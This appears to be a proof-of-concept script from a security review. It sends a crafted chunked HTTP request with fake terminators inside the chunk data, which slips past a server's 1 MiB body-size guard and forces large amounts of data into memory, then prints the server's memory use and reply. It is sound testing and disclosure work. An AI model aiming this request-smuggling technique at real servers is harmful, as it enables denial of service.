#!/usr/bin/env python3
"""Finding 1 against a running mid-server (README, "Fuzzing"): a chunked body far over the 1 MiB
limit reaches Qt's buffer whole, because the listener guard looks for the bytes CRLF 0 CRLF CRLF
in what it reads instead of following the chunk sizes. Each 64 KiB chunk's data starts with such
a fake terminator and then holds only short "heads" ("X: aaa…" + CRLF CRLF), so the guard sees
a finished body followed by small requests, while Qt's parser reads chunk data and keeps it.

    chunked-smuggling.py PORT MIB [PID]

Prints the server's resident memory before and after (with PID) and the answer: 413 arrives only
once the whole body was buffered (HttpServer's own check), not from the guard.
"""
import socket
import sys
import time

port, mib = int(sys.argv[1]), int(sys.argv[2])
pid = int(sys.argv[3]) if len(sys.argv) > 3 else None


def rss():
    if not pid:
        return "?"
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmRSS"):
            return line.split(None, 1)[1].strip()


s = socket.create_connection(("127.0.0.1", port))
s.sendall(b"POST /v1/consents/auth HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
          b"Content-Type: application/json\r\n\r\n")
print("server memory before:", rss())
unit = b"X: " + b"a" * 8000 + b"\r\n\r\n"
data = b"\r\n0\r\n\r\n" + unit * 8
data += b"b" * (65536 - len(data))
chunk = b"10000\r\n" + data + b"\r\n"
for _ in range(mib * 16):
    s.sendall(chunk)
time.sleep(1)
print(f"server memory after {mib} MiB of body:", rss())
s.sendall(b"0\r\n\r\n")
s.settimeout(10)
print(s.recv(200).split(b"\r\n")[0].decode())
